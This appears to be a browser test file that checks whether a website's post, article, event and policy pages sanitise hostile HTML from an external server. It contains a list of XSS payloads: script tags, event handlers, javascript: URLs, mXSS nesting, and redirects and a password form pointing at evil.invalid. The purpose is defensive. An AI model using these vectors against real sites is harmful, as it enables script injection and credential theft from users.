import { fakePaths } from './fakeContentApi.ts';
import { ELEMENT_IDS } from '../contract/constants.ts';
import { EVERY_ELEMENT } from '../contract/htmlAllowList.fixtures.ts';
import { paths } from '../contract/paths.ts';
import { goInside, visit } from './visit.ts';
import { withExternalSite } from './withExternalSite.ts';

const PWN = "window.pwned=(window.pwned||'')+'";

/** Ways to run a script, each telling its number when it does. */
const VECTORS = [
  `<script>${PWN}1 '</script>`,
  `<img src="/no-such.png" onerror="${PWN}2 '"><p onclick="${PWN}3 '" onmouseover="${PWN}4 '">Hover</p>`,
  `<p><a href="javascript:${PWN}5 '">Link</a> <a href=" java&#9;script:${PWN}6 '">Link</a></p>`,
  `<svg onload="${PWN}7 '"><script>${PWN}8 '</script><a xlink:href="javascript:${PWN}9 '"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.pwned='10 '</script>"></iframe><iframe src="javascript:parent.pwned='11 '"></iframe>`,
  `<style>body{display:none !important}@import '//evil.invalid/x.css';</style>`,
  `<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
  `<link rel="stylesheet" href="https://evil.invalid/x.css"><object data="javascript:${PWN}12 '"></object><embed src="javascript:${PWN}13 '">`,
  `<form action="https://evil.invalid/"><input name="password" autofocus onfocus="${PWN}14 '"><button>Send</button></form>`,
  `<details open ontoggle="${PWN}15 '"><summary>More</summary></details><video><source onerror="${PWN}16 '"></video>`,
  `<math><mtext><table><mglyph><style><img src onerror="${PWN}17 '"></style></mglyph></table></mtext></math>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.invalid/)" id="root" class="x">Over all</p>`,
  `</div></main></body><h1>Second title</h1><table><p>Foster</table><b><p>Mis</b>nested</p><p>one<p>two`,
];

const NESTING = 20_000;
const nested = `${'<div><b>'.repeat(NESTING / 2)}Deep${'</b></div>'.repeat(NESTING / 2)}`;
// Last, because content is cut where it has more tags than any article.
const content = `<p>Before it all</p>${VECTORS.join('')}<h2 id="end">After it all</h2>${nested}`;
const text = `</title></script><script>${PWN}18 '</script><img src=x onerror="${PWN}19 '">`;

const headings = [{ id: 'end', text, level: 2 }];
const author = { name: text, bio: text, profile_photo: `javascript:${PWN}20 '` };
const shared = { id: 1, title: text, description: content, author, content, headings };

const pages: [string, string][] = [
  [fakePaths.post, '/landing/blogs/other-post-1'],
  [fakePaths.article, '/help-center/topic/other-topic'],
  [fakePaths.event, '/webinars/events/other-event-1'],
  [paths.privacyPolicy, '/legal-documents/privacy-policy'],
];

const payload = {
  ...shared,
  tags: [text],
  category: text,
  cover_photo: `javascript:${PWN}21 '`,
  faqs: [{ id: 1, question: text, answer: content }],
  presented_by: text,
};

const external = withExternalSite({
  answers: Object.fromEntries(pages.map(([, call]) => [call, { payload }])),
});

/** What a page that shows hostile HTML must still be. */
const stateOf = () => {
  const main = document.querySelector('main')!;
  const count = (selector: string) => main.querySelectorAll(selector).length;
  return {
    pwned: (window as { pwned?: string }).pwned,
    title: document.title.length > 0,
    h1: document.querySelectorAll('h1').length,
    live: count('script, style, svg script, iframe, object, embed, base, meta, link, math'),
    handlers: [...main.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    ).length,
    foreign: count(
      '[href^="javascript" i], [src^="javascript" i], [href*="evil.invalid"], [style*="evil.invalid"], #root',
    ),
    fields: count('input[name=password]'),
    isShown: getComputedStyle(document.body).display !== 'none',
    hasBoth: ['Before it all', 'After it all'].every((words) => main.innerText.includes(words)),
    depth: count(`${'div '.repeat(150)}b`) === 0,
  };
};

const HARMLESS: ReturnType<typeof stateOf> = {
  pwned: undefined,
  title: true,
  h1: 1,
  live: 0,
  handlers: 0,
  foreign: 0,
  fields: 0,
  isShown: true,
  hasBoth: true,
  depth: true,
};

// The browser says of a picture and a video that they are missing; nothing else may be heard.
const MISSING_PICTURE = /status of 404/;

it.each(pages)('runs nothing of what a hostile server puts into %s', async (path) => {
  const options = { site: external.site.url, expectedMessages: MISSING_PICTURE };
  await visit(path, options, async ({ page, ready }) => {
    await ready();
    expect(await page.evaluate(stateOf)).toEqual(HARMLESS);
    for (const words of ['Hover', 'Link', 'More']) {
      const target = page.getByRole('main').getByText(words, { exact: true }).first();
      if ((await target.count()) > 0) await target.click();
    }
    expect(await page.evaluate(stateOf)).toEqual(HARMLESS);
    expect(new URL(page.url()).origin).toBe(external.site.url);
  });
});

it('shows the browser the same when it comes by a link', async () => {
  const options = { site: external.site.url, expectedMessages: MISSING_PICTURE };
  await visit(paths.about, options, async ({ page, ready }) => {
    await ready();
    for (const [path] of pages) {
      await goInside(page, path);
      await page.getByRole('heading', { name: 'After it all' }).first().waitFor();
      expect(await page.evaluate(stateOf)).toEqual(HARMLESS);
    }
  });
});

it.each([
  ['hostile', content],
  ['allowed', `${EVERY_ELEMENT}<h2 id="end">End</h2>`],
])('leaves the same markup of %s HTML after hydration as without scripts', async (_, html) => {
  external.api.answer(pages[0]![1], { payload: { ...shared, content: html } });
  const markup = async (javaScript: boolean) => {
    let found = '';
    const options = { site: external.site.url, javaScript, expectedMessages: MISSING_PICTURE };
    await visit(fakePaths.post, options, async ({ page, ready }) => {
      if (javaScript) await ready();
      found = await page.locator('#end').locator('..').innerHTML();
    });
    return found;
  };
  expect(await markup(true)).toBe(await markup(false));
});

/** Names that scripts look up on `window`, where the elements with ids are found, too. */
const LOOKED_UP = [
  ...['__REDUX_DEVTOOLS_EXTENSION__', '__REDUX_DEVTOOLS_EXTENSION_COMPOSE__', '_R_1_', 'process'],
  ...['__chunks', 'webpackChunkhearthline_website', '__earlyClick', 'earlyClick', 'navigation'],
  ...[
    '__REACT_DEVTOOLS_GLOBAL_HOOK__',
    '__zod_globalConfig',
    'scheduler',
    'trustedTypes',
    'define',
  ],
];
const json = '{"site":{},"queryCache":{},"slices":{},"failed":true}';
const takingIds = [...Object.values(ELEMENT_IDS), ...LOOKED_UP]
  .flatMap((id) => [
    `<h2>${id.replaceAll('-', ' ')}</h2>`,
    `<h2 id="${id}">${json}</h2>`,
    `<h3 id="${id.toUpperCase()}">${id}</h3>`,
  ])
  .join('');

it.each([fakePaths.post, fakePaths.article])(
  'becomes interactive whatever the headings of %s are called',
  async (path) => {
    const call = pages.find(([page]) => page === path)![1];
    external.api.answer(call, { payload: { ...shared, content: takingIds, headings: [] } });
    await visit(path, { site: external.site.url }, async ({ page, ready }) => {
      await ready();
      const ids = await page.evaluate(() =>
        [...document.querySelectorAll('[id]')].map((element) => element.id),
      );
      expect(new Set(ids).size).toBe(ids.length);
      // What the ids are for still works: the table of contents, and the way to the page's content.
      await page.getByRole('link', { name: 'Skip' }).focus();
      await page.keyboard.press('Enter');
      await expect(page.locator('main:focus').count()).resolves.toBe(1);
    });
  },
);
